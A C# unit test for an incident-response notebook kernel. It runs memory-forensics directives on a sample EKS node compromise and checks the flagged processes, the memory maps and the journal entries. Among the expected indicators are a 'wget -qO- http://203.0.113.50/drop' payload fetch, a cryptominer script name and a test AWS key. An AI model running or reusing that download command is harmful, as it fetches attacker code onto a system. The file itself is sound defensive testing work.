using EksIr.Core.Cases;
using Microsoft.DotNet.Interactive;

namespace EksIr.Kernel.Tests.Memory;

/// <summary>The memory phase's magic commands on the training incident's evidence, inside a case.</summary>
public sealed class MemoryDirectivesTests : IDisposable
{
    private readonly TempDir _temp = new();

    public void Dispose() => _temp.Dispose();

    [Fact]
    public async Task Lime_pstree_maps_and_ioc_run_on_the_sample_incident_and_are_journaled()
    {
        var before = EvidenceTree.Hash(Repo.Path("sample-data", "incident-1"));
        using var kernel = await KernelFixture.CreateAsync();
        var journal = _temp.Combine("case", "journal.jsonl");
        (await kernel.SubmitCodeAsync($"#!case open --name INC-7 --evidence \"{Repo.Path("sample-data", "incident-1")}\" --journal \"{journal}\"")).ShouldSucceed();

        var lime = await kernel.SubmitCodeAsync("#!lime memory/ip-192-168-23-107.lime");
        var tree = await kernel.SubmitCodeAsync("#!pstree memory/volatility --node node/ip-192-168-23-107.us-west-2.compute.internal.tar.gz");
        var maps = await kernel.SubmitCodeAsync("#!maps memory/maps/linux.proc.Maps.txt --pid 5310");
        var ioc = await kernel.SubmitCodeAsync("#!ioc memory/ip-192-168-23-107.lime --string miner.sh --regex \"wget [^\\x00]+|sysdiag\"");

        lime.ShouldSucceed();
        Assert.Contains("sha256 matches memory/ip-192-168-23-107.lime.sha256", lime.SingleDisplayedHtml());
        tree.ShouldSucceed();
        var html = tree.SingleDisplayedHtml();
        Assert.Contains("<details open", html);
        Assert.Contains("pod default/sysdiag: sysdiag (8e1f2a3b4c5d)", html);
        Assert.Contains("user-space process named like a kernel thread", html);
        Assert.Contains("<b>5120</b> sh <span style=\"color:#6a737d\">(uid 0, started 2026-11-29 06:23:58.702000 UTC)</span>", html); // pslist's columns
        Assert.Contains("2026-11-29 06:23:58.702000 UTC</td>", html); // and in the flagged table
        maps.ShouldSucceed();
        Assert.Contains("writable and executable; anonymous executable memory", maps.SingleDisplayedText());
        Assert.Contains("linux.proc.Maps --pid 5310 --dump", maps.SingleDisplayedText());
        ioc.ShouldSucceed();
        var hits = ioc.SingleDisplayedText();
        Assert.Contains("AKIA5DEVINTERN7EXMPL", hits);
        Assert.Contains("miner.sh", hits);
        Assert.Contains("sysdiag", hits);
        Assert.Contains("wget -qO- http://203.0.113.50/drop", hits);

        var entries = new CaseJournal(journal).Read().Entries;
        Assert.Equal(["lime", "pstree", "maps", "ioc"], entries.Skip(1).Select(e => e.Verb));
        Assert.Contains(entries[1].EvidenceRead, r => r.Path == "memory/ip-192-168-23-107.lime" && r.Sha256 is not null);
        Assert.Contains(entries[2].EvidenceRead, r => r.Path == "memory/volatility/linux.psaux.txt");
        Assert.Contains(entries[2].EvidenceRead, r => r.Path == "node/ip-192-168-23-107.us-west-2.compute.internal.tar.gz");
        Assert.Equal("miner.sh", entries[4].Options["--string"]);
        Assert.Equal(before, EvidenceTree.Hash(Repo.Path("sample-data", "incident-1"))); // the evidence, byte for byte and no new files
    }
}
